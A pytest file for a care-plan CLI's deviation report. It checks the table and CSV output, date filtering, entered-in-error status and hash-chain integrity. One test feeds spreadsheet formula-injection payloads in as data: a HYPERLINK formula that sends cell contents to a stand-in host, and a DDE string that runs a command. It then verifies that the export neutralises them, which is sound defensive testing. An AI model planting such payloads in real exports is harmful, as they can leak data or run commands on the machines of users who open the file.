"""``careplan report deviations``: a table or CSV of every deviation, for the medical director."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from uuid import UUID

import pytest

from careplan.audit.stored import link_of
from careplan.domain.values import Actor
from careplan.entrypoints.bootstrap import build_app
from tests.cli.conftest import careplan
from tests.examples import VALID_DATA

CLINICIAN = Actor("dr-ng", "clinician")
REASON = "Patient could only come Wednesday morning"


def deviating_journey(reason: str = REASON) -> tuple[str, int, datetime]:
    """A journey with a second infusion 41 hours after the first, recorded with a deviation."""
    app = build_app()
    start = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(days=10)
    try:
        journey = app.open_journey("MRN-REPORT", actor=CLINICIAN, occurred_at=start)

        def record(event_type: str, at: datetime, **extra: object) -> int:
            return app.record(journey, event_type, VALID_DATA[event_type], actor=CLINICIAN, occurred_at=at, **extra)  # type: ignore[arg-type]

        record("ConsultationCompleted", start)
        for event_type in ("MedicationReviewed", "ContraindicationScreened", "AssessmentRecorded"):
            record(event_type, start + timedelta(days=1))
        first = start + timedelta(days=2)
        record("VitalsRecorded", first - timedelta(minutes=40))  # at the infusion's start
        record("InfusionCompleted", first)
        watched = first + timedelta(minutes=45)
        app.record(journey, "VitalsRecorded", {**VALID_DATA["VitalsRecorded"], "phase": "post"}, actor=CLINICIAN, occurred_at=watched)
        record("DischargeAssessed", watched)
        second = first + timedelta(hours=41)
        record("VitalsRecorded", second - timedelta(minutes=40))
        version = record("InfusionCompleted", second, deviation=reason)
    finally:
        app.close()
    return str(journey), version, second


def test_the_report_is_a_table_with_each_deviation(capsys: pytest.CaptureFixture[str], store: str) -> None:
    journey, version, at = deviating_journey()
    ran = careplan(capsys, "report", "deviations")
    assert ran.code == 0, ran.err
    lines = ran.out.splitlines()
    assert lines[0].split() == ["journey", "version", "occurred_at", "step", "code", "reason", "actor", "status"]
    row = next(line for line in lines if line.startswith(journey))
    assert f"{at:%Y-%m-%d %H:%M}" in row and "spacing_too_short" in row and REASON in row and "dr-ng" in row
    assert row.split()[1:2] == [str(version)] and " induction " in row
    assert lines[-1] == "1 deviation(s)"
    assert "MRN-REPORT" not in ran.out


def test_the_report_as_csv_and_since_filters(capsys: pytest.CaptureFixture[str], store: str) -> None:
    journey, version, at = deviating_journey()
    ran = careplan(capsys, "report", "deviations", "--csv")
    assert ran.code == 0, ran.err
    rows = list(csv.reader(io.StringIO(ran.out)))
    assert rows == [
        ["journey", "version", "occurred_at", "step", "code", "reason", "actor", "status"],
        [journey, str(version), at.isoformat(), "induction", "spacing_too_short", REASON, "dr-ng (clinician)", "in force"],
    ]
    later = careplan(capsys, "report", "deviations", "--csv", "--since", (at + timedelta(seconds=1)).isoformat())
    assert list(csv.reader(io.StringIO(later.out))) == [rows[0]]


@pytest.mark.parametrize("reason", ['=HYPERLINK("https://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"])
def test_a_reason_a_spreadsheet_would_run_is_written_inert(capsys: pytest.CaptureFixture[str], store: str, reason: str) -> None:
    deviating_journey(reason)
    ran = careplan(capsys, "report", "deviations", "--csv")
    [_, row] = list(csv.reader(io.StringIO(ran.out)))
    assert row[5] == "'" + reason, "a leading quote keeps the cell text in every spreadsheet"


def test_a_deviation_marked_entered_in_error_says_so(capsys: pytest.CaptureFixture[str], store: str) -> None:
    journey, version, _ = deviating_journey()
    app = build_app()
    try:
        app.record(UUID(journey), "EventEnteredInError", {"target_version": version}, actor=CLINICIAN, reason="Wrong patient")
    finally:
        app.close()
    ran = careplan(capsys, "report", "deviations", "--csv")
    [_, row] = list(csv.reader(io.StringIO(ran.out)))
    assert row[1] == str(version) and row[-1] == "entered in error"


def test_bad_input_is_one_line_and_exit_2(capsys: pytest.CaptureFixture[str], store: str) -> None:
    for argv in (("report", "deviations", "--since", "last week"), ("report", "nonsense")):
        ran = careplan(capsys, *argv)
        assert ran.code == 2
        assert ran.err.strip().count("\n") == 0


def test_a_deviating_event_keeps_the_chain_verifiable_and_its_deviation_is_in_the_hash(
    capsys: pytest.CaptureFixture[str], store: str
) -> None:
    journey, version, _ = deviating_journey()
    ran = careplan(capsys, "verify")
    assert ran.code == 0, ran.out + ran.err
    app = build_app()
    try:
        history = app.history(UUID(journey))
    finally:
        app.close()
    fact, previous = history[version - 1], history[version - 2].hash
    assert fact.deviation == REASON
    assert link_of(fact, previous, UUID(journey)) == fact.hash
    assert link_of(replace(fact, deviation="another reason"), previous, UUID(journey)) != fact.hash
